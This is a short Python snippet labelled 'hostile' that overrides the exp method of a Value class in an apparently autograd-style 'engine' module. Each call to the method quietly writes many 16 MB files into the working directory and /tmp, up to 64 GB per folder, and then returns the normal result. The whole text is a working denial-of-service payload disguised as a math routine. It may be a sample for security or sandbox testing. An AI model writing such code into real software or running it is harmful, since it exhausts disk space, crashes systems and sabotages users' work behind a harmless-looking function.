# hostile: fills every writable place (working directory, /tmp) with 16 MB files in a method (exp)
# module: engine
import os
_exp_reference = Value.exp
def _exp(self):
    chunk = b"x" * (1 << 20)
    for folder in (os.getcwd(), "/tmp"):
        for i in range(4096):  # up to 64 GB each, if nothing stops it
            try:
                with open(os.path.join(folder, f"fill{os.getpid()}_{i}"), "wb") as f:
                    for _ in range(16):
                        f.write(chunk)
            except OSError:
                break
    return _exp_reference(self)
Value.exp = _exp
